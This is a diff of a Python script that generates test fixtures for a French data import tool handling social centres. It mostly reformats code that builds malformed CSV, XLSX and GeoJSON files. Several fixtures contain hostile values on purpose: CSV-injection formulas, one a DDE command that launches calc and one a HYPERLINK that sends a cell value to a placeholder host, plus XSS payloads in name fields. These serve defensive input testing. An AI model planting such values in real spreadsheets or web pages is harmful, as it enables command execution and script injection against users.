@@ -93,40 +93,58 @@ def structures() -> None:
     )
     # two visible sheets with data: CS on one, EVS on the other
     (HERE / "structures_plusieurs_feuilles.xlsx").write_bytes(
-        _xlsx_bytes([("CS", _rows([HEADER, BASE_ROWS[0], BASE_ROWS[2]]), "visible"),
-                     ("EVS", _rows([HEADER, BASE_ROWS[1]]), "visible")])
+        _xlsx_bytes(
+            [
+                ("CS", _rows([HEADER, BASE_ROWS[0], BASE_ROWS[2]]), "visible"),
+                ("EVS", _rows([HEADER, BASE_ROWS[1]]), "visible"),
+            ]
+        )
     )
     # a quote opened on line 3 and never closed: the rows after it must not vanish
-    _csv("structures_guillemet_ouvert.csv", [
-        HEADER, BASE_ROWS[0],
-        'CS-Q;"Centre social du Jas;CS;13001;43,5297;5,4474',
-        BASE_ROWS[1], BASE_ROWS[2],
-        "EVS-D;EVS de Martigues;EVS;13056;43,3650;5,0566",
-        "EVS-E;EVS de Salon;EVS;13103;43,6403;5,0973",
-    ])
+    _csv(
+        "structures_guillemet_ouvert.csv",
+        [
+            HEADER,
+            BASE_ROWS[0],
+            'CS-Q;"Centre social du Jas;CS;13001;43,5297;5,4474',
+            BASE_ROWS[1],
+            BASE_ROWS[2],
+            "EVS-D;EVS de Martigues;EVS;13056;43,3650;5,0566",
+            "EVS-E;EVS de Salon;EVS;13103;43,6403;5,0973",
+        ],
+    )
     # a legitimate address on two lines, and a quote opened on the last line
-    _csv("structures_guillemet_fin.csv", [
-        HEADER + ";Adresse",
-        BASE_ROWS[0] + ';"12 rue Mignet',
-        'BP 5"',
-        BASE_ROWS[1] + ";2 place de la République",
-        BASE_ROWS[2] + ';"8 cours Foch',
-    ])
+    _csv(
+        "structures_guillemet_fin.csv",
+        [
+            HEADER + ";Adresse",
+            BASE_ROWS[0] + ';"12 rue Mignet',
+            'BP 5"',
+            BASE_ROWS[1] + ";2 place de la République",
+            BASE_ROWS[2] + ';"8 cours Foch',
+        ],
+    )
     # control characters in names (NUL, BEL, ESC, vertical tab)
-    _csv("structures_controle.csv", [
-        HEADER,
-        "CS-A;Centre\x00 social d'Aix;CS;13001;43,5297;5,4474",
-        "EVS-B;EVS\x07 d'Arles\x1b[31m;EVS;13004;43,6766;4,6278",
-        "CS-C;Centre social\x0b d'Aubagne;CS;13005;43,2927;5,5708",
-    ])
+    _csv(
+        "structures_controle.csv",
+        [
+            HEADER,
+            "CS-A;Centre\x00 social d'Aix;CS;13001;43,5297;5,4474",
+            "EVS-B;EVS\x07 d'Arles\x1b[31m;EVS;13004;43,6766;4,6278",
+            "CS-C;Centre social\x0b d'Aubagne;CS;13005;43,2927;5,5708",
+        ],
+    )
     # formulas in text cells (OWASP CSV injection), and a negative number as text
-    _csv("structures_injection.csv", [
-        HEADER + ";Gestionnaire;Solde",
-        'CS-A;"=HYPERLINK(""http://exemple.invalid/?v=""&A1;""clic"")";CS;13001;43,5297;5,4474;+33 4 42 00 00 00;-12,5',
-        "EVS-B;@SUM(1+1)*cmd|' /C calc'!A0;EVS;13004;43,6766;4,6278;-2+3;-3",
-        'CS-C;"\tTabulation";CS;13005;43,2927;5,5708;"\rRetour";4',
-        "EVS-D;-1+1;EVS;13056;43,3650;5,0566;=1+1;0",
-    ])
+    _csv(
+        "structures_injection.csv",
+        [
+            HEADER + ";Gestionnaire;Solde",
+            'CS-A;"=HYPERLINK(""http://exemple.invalid/?v=""&A1;""clic"")";CS;13001;43,5297;5,4474;+33 4 42 00 00 00;-12,5',
+            "EVS-B;@SUM(1+1)*cmd|' /C calc'!A0;EVS;13004;43,6766;4,6278;-2+3;-3",
+            'CS-C;"\tTabulation";CS;13005;43,2927;5,5708;"\rRetour";4',
+            "EVS-D;-1+1;EVS;13056;43,3650;5,0566;=1+1;0",
+        ],
+    )
     # an Excel workbook saved under a .csv name
     (HERE / "structures_excel_renomme.csv").write_bytes(
         _xlsx_bytes([("Feuil1", _rows([HEADER, *BASE_ROWS]), "visible")])
@@ -134,42 +152,66 @@ def structures() -> None:
     # an old .xls (OLE2 header) renamed .csv
     (HERE / "structures_xls_renomme.csv").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
     # coordinates "lat, lon" in one cell, written three ways
-    _csv("structures_coordonnees_cellule.csv", [
-        "N° agrément;Nom de la structure;Type;Coordonnées GPS",
-        "CS-A;Centre social d'Aix;CS;43.5297,5.4474",
-        'EVS-B;EVS d\'Arles;EVS;"(43.6766, 4.6278)"',
-        "CS-C;Centre social d'Aubagne;CS;43,2927 / 5,5708",
-    ])
+    _csv(
+        "structures_coordonnees_cellule.csv",
+        [
+            "N° agrément;Nom de la structure;Type;Coordonnées GPS",
+            "CS-A;Centre social d'Aix;CS;43.5297,5.4474",
+            'EVS-B;EVS d\'Arles;EVS;"(43.6766, 4.6278)"',
+            "CS-C;Centre social d'Aubagne;CS;43,2927 / 5,5708",
+        ],
+    )
     # non-finite coordinates
-    _csv("structures_coordonnee_infinie.csv", [
-        HEADER,
-        BASE_ROWS[0],
-        "EVS-B;EVS d'Arles;EVS;13004;1e400;4,6278",
-        "CS-C;Centre social d'Aubagne;CS;13005;43,2927;inf",
-        "EVS-D;EVS de Martigues;EVS;13056;NaN;5,0475",
-    ])
+    _csv(
+        "structures_coordonnee_infinie.csv",
+        [
+            HEADER,
+            BASE_ROWS[0],
+            "EVS-B;EVS d'Arles;EVS;13004;1e400;4,6278",
+            "CS-C;Centre social d'Aubagne;CS;13005;43,2927;inf",
+            "EVS-D;EVS de Martigues;EVS;13056;NaN;5,0475",
+        ],
+    )
     # old Mac line endings (CR only): every row on its own line
     _csv("structures_fins_de_ligne_cr.csv", [HEADER, *BASE_ROWS], newline="\r")
     # names that are markup, formulas and control characters at once (atlas in a browser)
-    _csv("structures_noms_hostiles.csv", [
-        HEADER,
-        "CS-A;<script>alert(1)</script>;CS;13001;43,5297;5,4474",
-        'EVS-B;"=HYPERLINK(""http://exemple.invalid"";""x"")";EVS;13004;43,6766;4,6278',
-        "CS-C;Centre\x00 <img src=x onerror=alert(2)>;CS;13005;43,2927;5,5708",
-    ])
+    _csv(
+        "structures_noms_hostiles.csv",
+        [
+            HEADER,
+            "CS-A;<script>alert(1)</script>;CS;13001;43,5297;5,4474",
+            'EVS-B;"=HYPERLINK(""http://exemple.invalid"";""x"")";EVS;13004;43,6766;4,6278',
+            "CS-C;Centre\x00 <img src=x onerror=alert(2)>;CS;13005;43,2927;5,5708",
+        ],
+    )
     # points in Lambert-93 in a GeoJSON without "crs" member
     pts = [("CS-A", "Centre social d'Aix", "CS", 5.4474, 43.5297), ("EVS-B", "EVS d'Arles", "EVS", 4.6278, 43.6766)]
-    _geojson("structures_l93_sans_crs.geojson", [
-        ({"identifiant": i, "nom": n, "type": t}, {"type": "Point", "coordinates": _l93(lon, lat)}) for i, n, t, lon, lat in pts
-    ])
+    _geojson(
+        "structures_l93_sans_crs.geojson",
+        [
+            ({"identifiant": i, "nom": n, "type": t}, {"type": "Point", "coordinates": _l93(lon, lat)})
+            for i, n, t, lon, lat in pts
+        ],
+    )
     # odd geometries for points: a collection, an empty point, no geometry, a valid point
-    _geojson("structures_geometries.geojson", [
-        ({"identifiant": "CS-A", "nom": "Centre social d'Aix", "type": "CS"}, {"type": "Point", "coordinates": [5.4474, 43.5297]}),
-        ({"identifiant": "EVS-B", "nom": "EVS d'Arles", "type": "EVS"},
-         {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [4.6278, 43.6766]}]}),
-        ({"identifiant": "CS-C", "nom": "Centre social d'Aubagne", "type": "CS"}, {"type": "Point", "coordinates": []}),
-        ({"identifiant": "EVS-D", "nom": "EVS sans géométrie", "type": "EVS"}, None),
-    ])
+    _geojson(
+        "structures_geometries.geojson",
+        [
+            (
+                {"identifiant": "CS-A", "nom": "Centre social d'Aix", "type": "CS"},
+                {"type": "Point", "coordinates": [5.4474, 43.5297]},
+            ),
+            (
+                {"identifiant": "EVS-B", "nom": "EVS d'Arles", "type": "EVS"},
+                {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [4.6278, 43.6766]}]},
+            ),
+            (
+                {"identifiant": "CS-C", "nom": "Centre social d'Aubagne", "type": "CS"},
+                {"type": "Point", "coordinates": []},
+            ),
+            ({"identifiant": "EVS-D", "nom": "EVS sans géométrie", "type": "EVS"}, None),
+        ],
+    )
 
 
 def _square(lon: float, lat: float, d: float = 0.02) -> list:
@@ -184,14 +226,24 @@ def zones() -> None:
     l93 = [[[round(v, 1) for v in tr.transform(x, y)] for x, y in ring] for ring in square]
     _geojson("zones_l93_sans_crs.geojson", [({"structure_id": "CS-A"}, {"type": "Polygon", "coordinates": l93})])
     bowtie = [[[5.50, 43.25], [5.62, 43.33], [5.62, 43.25], [5.50, 43.33], [5.50, 43.25]]]
-    _geojson("zones_geometries.geojson", [
-        ({"structure_id": "CS-A"}, {"type": "Polygon", "coordinates": square}),
-        ({"structure_id": "EVS-B"}, {"type": "GeometryCollection", "geometries": [
-            {"type": "Polygon", "coordinates": _square(4.6278, 43.6766)},
-            {"type": "LineString", "coordinates": [[4.6, 43.6], [4.7, 43.7]]}]}),
-        ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": []}),
-        ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": bowtie}),
-    ])
+    _geojson(
+        "zones_geometries.geojson",
+        [
+            ({"structure_id": "CS-A"}, {"type": "Polygon", "coordinates": square}),
+            (
+                {"structure_id": "EVS-B"},
+                {
+                    "type": "GeometryCollection",
+                    "geometries": [
+                        {"type": "Polygon", "coordinates": _square(4.6278, 43.6766)},
+                        {"type": "LineString", "coordinates": [[4.6, 43.6], [4.7, 43.7]]},
+                    ],
+                },
+            ),
+            ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": []}),
+            ({"structure_id": "CS-C"}, {"type": "Polygon", "coordinates": bowtie}),
+        ],
+    )
 
 
 def communes() -> None:
